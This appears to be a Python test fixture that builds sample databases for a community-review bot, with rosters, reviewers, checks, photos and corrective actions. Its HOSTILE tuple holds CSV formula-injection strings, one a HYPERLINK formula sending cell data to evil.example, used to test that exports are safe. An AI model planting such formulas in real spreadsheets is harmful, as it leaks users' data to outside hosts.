"""Databases for the file checks, built the way the bot builds them: through the services.

A roster imported from CSV (short or long names; Heyuan: its 附件4 contact list too), users with
roles, checks in two years answered item by item (notes up to their limit, hostile text, files
stored through the evidence service), submitted and taken through the program's review chain
(verified items, a send-back, recognition, 公示/公布 where the chain has them), corrective actions
(open, closed with a file, confirmed, awaiting confirmation) and the 申报表's fields, one community
with every field at its limit.

    build_db(path, "chuxiong-2021", counties=30, per_county=12, long_names=True, checks=40)

Used by tests/files/ (small) and tests/visual/render_files.py (7, 30 long names, 3,000 counties).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
from pathlib import Path
from zoneinfo import ZoneInfo

import sqlite_utils

from bot.catalog import catalog
from bot.clock import FixedClock
from bot.domain import workflow
from bot.domain.access import Principal
from bot.domain.answers import NOTE_MAX
from bot.domain.errors import ReviewError
from bot.domain.standards import Question
from bot.domain.workflow import Stage
from bot.files.store import FileStore
from bot.services import form_fields
from bot.services.actions import Actions
from bot.services.checks import Checks
from bot.services.evidence import Evidence
from bot.services.people import People
from bot.services.reviews import Reviews
from bot.services.roster import Roster
from bot.store.db import connect

ZONE = ZoneInfo("Asia/Shanghai")
ADMIN_ID = 1
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&C3,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)
LONG_ADDRESS = (
    "河源市源城区新江街道办事处越王大道与兴源路交汇处东北侧绿色家园小区12栋一楼社区服务中心"
)
_SYL = "安宁平和兴华东西南北中新城江河山海云龙凤阳光明永长福寿泰康金银玉石清水沙田林川桥湖岭"
PROSE = (
    "社区成立绿色社区创建工作领导小组，制定创建方案并明确责任分工；结合老旧小区改造完成雨污分流、"
    "外墙保温和屋顶绿化，设置垃圾分类投放点12处，组织志愿者开展绿色生活宣传活动36场，"
    "居民参与率达到85%以上。"
)
STARTS = (dt.datetime(2021, 6, 1, 9, tzinfo=ZONE), dt.datetime(2022, 5, 10, 9, tzinfo=ZONE))


def text_of(n: int, seed: str = PROSE) -> str:
    """Realistic text exactly `n` characters long (paragraphs every ~200 characters)."""
    out = ""
    while len(out) < n:
        out += seed + ("\n" if len(out) % 400 > 200 else "")
    return out[:n].rstrip("\n") + "。" * (n - len(out[:n].rstrip("\n")))


# -- the roster ---------------------------------------------------------------------------------


def _county_name(rng: random.Random, k: int, long: bool) -> str:
    base = "".join(rng.choice(_SYL) for _ in range(2))
    return f"{base}彝族苗族自治县经济技术开发区第{k:02d}片区" if long else f"{base}{k}县"


def _community_name(county: str, k: int, n: int, long: bool) -> str:
    if long:  # up to 36 characters
        return f"{county[:2]}第{k:02d}号社区居民委员会所辖绿色家园示范片区名称较长的社区{n}"[:36]
    return f"{county[:2]}{k}社区{n}"


def _roster_csv(path: Path, rng: random.Random, size: tuple[int, int, bool]) -> Path:
    counties, per, long = size
    out = path.with_suffix(".roster.csv")
    used: set[str] = set()
    n = 0
    with out.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["county", "street", "community", "former_livable", "former_green",
                    "planned_year", "address"])  # fmt: skip
        for k in range(1, counties + 1):
            name = _county_name(rng, k, long)
            while name in used:
                name = _county_name(rng, k, long) + str(k)
            used.add(name)
            for j in range(1, per + 1):
                n += 1
                w.writerow([name, f"{name[:2]}第{1 + j % 2}街道",
                            _community_name(name, j, n, long), int(rng.random() < 0.8), 0,
                            rng.choice((2021, 2022, "")), LONG_ADDRESS if long else ""])  # fmt: skip
    return out


def _contacts_csv(path: Path, db: sqlite_utils.Database) -> Path:
    out = path.with_suffix(".contacts.csv")
    counties = [r[0] for r in db.execute("SELECT name FROM counties ORDER BY id")]
    with out.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["县区", "姓名", "单位", "股室", "手机", "固定电话"])
        for k, county in enumerate(counties[:-1]):  # the last county has sent no list yet
            w.writerow([county, f"联络员{k}", f"{county}住房和城乡建设局", "村镇建设股",
                        f"1380013{k:04d}", f"0762-33{k:04d}"])  # fmt: skip
            if k % 3 == 0:
                w.writerow([county, f"副联络员{k}", f"{county}住房和城乡建设局城市建设管理股",
                            "城建股", f"1390013{k:04d}", ""])  # fmt: skip
    return out


def _roster(db: sqlite_utils.Database, path: Path, program_id: str, size: tuple[int, int, bool],
            rng: random.Random) -> None:  # fmt: skip
    program, roster = catalog().program(program_id), Roster(db)
    if size[0] == 0:
        roster.load_sample(program)
    else:
        roster.import_roster(_roster_csv(path, rng, size), region=program.region)
    if any(f.kind == "contacts" for f in program.forms):
        roster.import_roster(_contacts_csv(path, db))


# -- people --------------------------------------------------------------------------------------


def _people_at(db: sqlite_utils.Database, now: dt.datetime) -> People:
    """The people service with its clock standing at `now` (the builder moves through time)."""
    return People(db, FixedClock(ZONE, now), Roster(db))


def _user(db: sqlite_utils.Database, uid: int, name: str, username: str | None,
          now: dt.datetime) -> None:  # fmt: skip
    """A user as the bot records one (its row, its language)."""
    _people_at(db, now).set_language(uid, "zh", name, username)


def _people(db: sqlite_utils.Database, now: dt.datetime) -> None:
    """An admin, one contact per county (some named with hostile text), a street reviewer."""
    _people_at(db, now).ensure_admins([ADMIN_ID])
    _user(db, ADMIN_ID, "市住建局王科长", None, now)
    for k, (county,) in enumerate(db.execute("SELECT id FROM counties ORDER BY id").fetchall()):
        uid = 1000 + int(county)
        name = HOSTILE[k % len(HOSTILE)] if k % 4 == 3 else f"县区联系人{county}"
        _user(db, uid, name, None, now)
        _people_at(db, now).grant(uid, "contact", county_id=int(county))


def _worker(db: sqlite_utils.Database, cid: int, now: dt.datetime) -> Principal:
    uid = 100000 + cid
    name = HOSTILE[cid % len(HOSTILE)] if cid % 5 == 0 else f"社区工作者{cid}"
    _user(db, uid, name, f"worker{cid}" if cid % 7 == 0 else None, now)
    people = _people_at(db, now)
    people.grant(uid, "worker", community_id=cid)
    return people.load_principal(uid)


# -- checks --------------------------------------------------------------------------------------


def _photo(k: int, when: dt.datetime) -> bytes:
    """A small real JPEG with an EXIF capture time (every third without one)."""
    from PIL import Image

    img = Image.new("RGB", (64, 48), ((k * 37) % 255, (k * 91) % 255, 120))
    exif = Image.Exif()
    if k % 3:
        exif[306] = when.strftime("%Y:%m:%d %H:%M:%S")
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif)
    return buf.getvalue()


def _status(q: Question, rng: random.Random, good: bool) -> str:
    if q.id.startswith("V"):
        return "met"  # a veto answered absent
    if q.na_allowed and rng.random() < 0.1:
        return "na"
    roll = rng.random()
    if good or roll < 0.8:
        return "met"
    if q.max_points is None and roll < 0.9:
        return "partial"
    return "not_met"


def _answer(checks: Checks, w: Principal, aid: int, rng: random.Random, good: bool) -> None:
    a = checks.get(aid)
    assert a is not None
    for k, q in enumerate(checks.standard_for(a).questions):
        status = _status(q, rng, good)
        checks.answer(w, aid, q.id, status)  # type: ignore[arg-type]
        if status == "na":
            checks.note(w, aid, q.id, "本社区无此类设施，此项不适用。")
        elif k % 9 == 0:
            checks.note(w, aid, q.id, HOSTILE[k % len(HOSTILE)])
        elif k % 13 == 1:
            checks.note(w, aid, q.id, text_of(NOTE_MAX))


def _attach(ev: Evidence, checks: Checks, w: Principal, aid: int, qid: str, k: int) -> None:
    now = checks.clock.now()
    unique = f"u{aid}-{qid}-{k}-{now:%Y%m%d}"
    name = f"{qid}现场照片{k}.jpg" if k % 2 else None
    checks.attach(w, aid, qid, {"kind": "photo" if name is None else "document",
                                "file_id": f"id-{unique}", "file_unique_id": unique,
                                "file_name": name, "mime_type": "image/jpeg", "file_size": 800})  # fmt: skip
    eid = ev.find(aid, qid, unique)
    if eid is not None:  # downloaded, as the bot does, then kept in the store and read
        download = ev.files.root.parent / f"{unique}.download"
        download.parent.mkdir(parents=True, exist_ok=True)
        download.write_bytes(_photo(k + aid, now - dt.timedelta(days=k)))
        ev.record(eid, ev.keep(download), now)


def _check(s: World, cid: int, start: dt.datetime, good: bool, n: int) -> int:
    s.clock.set(start)
    w = _worker(s.db, cid, start)
    a = s.checks.start(cid)
    _answer(s.checks, w, a.id, s.rng, good)
    for k, q in enumerate(s.checks.standard_for(a).questions[:: 1 + s.rng.randint(4, 9)]):
        _attach(s.ev, s.checks, w, a.id, q.id, k)
    _close_actions(s, w, a.id, n)
    s.reviews.submit(w, a.id)
    return a.id


# -- the review chain ---------------------------------------------------------------------------


class World:
    """The services over one database, on one clock that the builder moves."""

    def __init__(self, db: sqlite_utils.Database, program_id: str, files: Path, seed: int) -> None:
        cat = catalog()
        self.db = db
        self.clock = FixedClock(ZONE, STARTS[0])
        self.checks = Checks(db, cat, cat.programs[program_id], self.clock)
        self.reviews = Reviews(self.checks)
        self.actions = Actions(db, self.clock)
        self.ev = Evidence(db, FileStore(files), self.checks)
        self.rng = random.Random(seed)
        self.people = People(db, self.clock, Roster(db))
        self.admin = self.people.load_principal(ADMIN_ID)

    def stage(self, aid: int) -> Stage | None:
        """The stage the check waits at (None: it waits nowhere)."""
        r = self.reviews.store.review(aid)
        if r is None or r.state != workflow.WAITING:
            return None
        return self.reviews.chain_of(aid).named(r.stage)

    def acting(self, aid: int, stage: Stage) -> Principal:
        """Who acts at the stage: its street's reviewer, its county's contact, else the city."""
        at = self.reviews.store.scope(aid)
        if at is None:
            return self.admin
        if stage.actor == "street" and at.street_id is not None:
            uid = 5000 + at.street_id
            _user(self.db, uid, f"街道审核员{at.street_id}", None, self.clock.now())
            People(self.db, self.clock, Roster(self.db)).grant_street(uid, at.community_id)
            return self.people.load_principal(uid)
        if stage.actor == "county":
            return self.people.load_principal(1000 + at.county_id)
        return self.admin


def _review(s: World, aid: int, days: int) -> None:
    """The first reviewer verifies two items (one not met, one time in four), then each stage
    approves in turn; a stage that attests refuses a failing check, which stops there."""
    s.clock.advance(dt.timedelta(days=days))
    stage = s.stage(aid)
    a = s.checks.get(aid)
    assert a is not None and stage is not None
    items = [q for q in s.checks.standard_for(a).questions if q.role == "check"]
    points = [q for q in s.checks.standard_for(a).questions if q.role == "points"]
    who = s.acting(aid, stage)
    s.reviews.verify(who, aid, stage.index, (items or points)[1].id, "k")
    if items and s.rng.random() < 0.25:  # the reviewer finds an item not met
        s.reviews.verify(who, aid, stage.index, items[2].id, "n")
    while (stage := s.stage(aid)) is not None:
        s.clock.advance(dt.timedelta(days=3 if stage.verifies else 10))
        days = 7 if stage.act == "publicise" else None  # 公示 runs a week; 公布 follows it
        try:
            s.reviews.approve(s.acting(aid, stage), aid, stage.index, confirmed=True, days=days)
        except ReviewError as exc:
            if exc.code != "fails_standard":
                raise
            return  # it fails the standard: not recognised


def _send_back(s: World, aid: int) -> None:
    """A reviewer comments an item and sends the check back; the community fixes and resubmits."""
    a, stage = s.checks.get(aid), s.stage(aid)
    assert a is not None and stage is not None
    qid = s.checks.standard_for(a).questions[0].id
    s.clock.advance(dt.timedelta(days=2))
    who = s.acting(aid, stage)
    s.reviews.comment(who, aid, stage.index, qid, "照片不清楚，请补充会议记录。")
    s.reviews.send_back(who, aid, stage.index, "请按意见补充材料后重新提交。")
    w = _worker(s.db, a.community_id, s.clock.now())
    s.clock.advance(dt.timedelta(days=2))
    s.checks.answer(w, aid, qid, "met")
    s.reviews.submit(w, aid)


# -- corrective actions ----------------------------------------------------------------------------


def _open_actions(s: World, aid: int) -> None:
    """Actions on the reviewed check's failed items (up to three), due in 30, 40, 50 days."""
    a = s.checks.get(aid)
    assert a is not None
    failed = [q for q, r in s.checks.rows(aid).items() if r.status in ("not_met", "partial")]
    w = _worker(s.db, a.community_id, s.clock.now())
    for k, qid in enumerate(failed[:3]):
        due = s.clock.today() + dt.timedelta(days=30 + 10 * k)
        problem = None if k == 0 else text_of(60 + 40 * k)  # none: the item says it
        s.actions.open(s.admin, (aid, qid), w.user_id, due, problem)


def _close_actions(s: World, w: Principal, aid: int, n: int) -> None:
    """In the next year's check, a file on each item with an open action closes it; the city
    confirms every other one (the rest await confirmation)."""
    cid = w.communities and min(w.communities)
    for k, x in enumerate(s.actions.listing(s.admin, community=cid)):
        if x.row.status != "open" or (n + k) % 4 == 3:
            continue  # one in four stays open
        _attach(s.ev, s.checks, w, aid, x.row.question_id, 50 + k)
        s.actions.close(w, x.row.id)
        if k % 2 == 0:
            s.actions.review(s.admin, x.row.id, True)


# -- the whole database ---------------------------------------------------------------------------


def _fields(db: sqlite_utils.Database, cid: int, year: int, full: bool, now: dt.datetime) -> None:
    """The 申报表's fields: every one at its limit (`full`), or realistic values."""
    real = {"address": "越王大道与兴源路交汇处东北侧绿色家园小区12栋一楼", "population": "12860人",
            "households": "4120", "resident_households": "3980", "area": "0.62平方公里",
            "building_area": "52万㎡", "green_area": "18.6万", "leader": "李明华",
            "leader_title": "社区党委书记、居委会主任", "leader_phone": "0762-3388123",
            "street_leader": "王建国", "street_leader_title": "街道办事处副主任",
            "street_leader_phone": "13800138000", "contact": "刘晓燕",
            "contact_title": "网格员", "contact_phone": "13912345678",
            "facilities": "党群服务中心1个、卫生服务站1个、日间照料中心1个、微型消防站1个、"
                          "健身广场2处、快递驿站2个、电动自行车充电设施40个",
            "work": text_of(300)}  # fmt: skip
    fields = form_fields.FormFields(db, FixedClock(ZONE, now))
    for key in form_fields.FIELDS:
        value = text_of(form_fields.LIMITS[key]) if full else real[key]
        fields.write(cid, year, key, value, None)


def build_db(
    path: Path | str,
    program_id: str,
    counties: int = 7,
    per_county: int = 10,
    long_names: bool = False,
    seed: int = 5,
    checks: int = 12,
) -> sqlite_utils.Database:
    """A database for `program_id` (`counties=0`: the Heyuan sample roster); `checks`
    communities get a check (about a third a second year's too), most reviewed."""
    path = Path(path)
    rng = random.Random(seed)
    db = connect(path)
    _roster(db, path, program_id, (counties, per_county, long_names), rng)
    _people(db, STARTS[0])
    s = World(db, program_id, path.with_suffix(".files"), seed)
    ids = [int(r[0]) for r in db.execute("SELECT id FROM communities ORDER BY id")]
    chosen = sorted(rng.sample(ids, min(checks, len(ids))))
    for n, cid in enumerate(chosen):
        years = STARTS if n % 3 == 0 else STARTS[n % 2 :][:1]
        for start in years:
            aid = _check(s, cid, start + dt.timedelta(days=n % 60), n % 4 != 3, n)
            if n % 5 == 4:
                _send_back(s, aid)
            if n % 6 != 5:
                _review(s, aid, 20 + n % 30)
                _open_actions(s, aid)
    _fields(db, ids[0], 2022, True, STARTS[1])
    _fields(db, ids[1], 2022, False, STARTS[1])
    return db
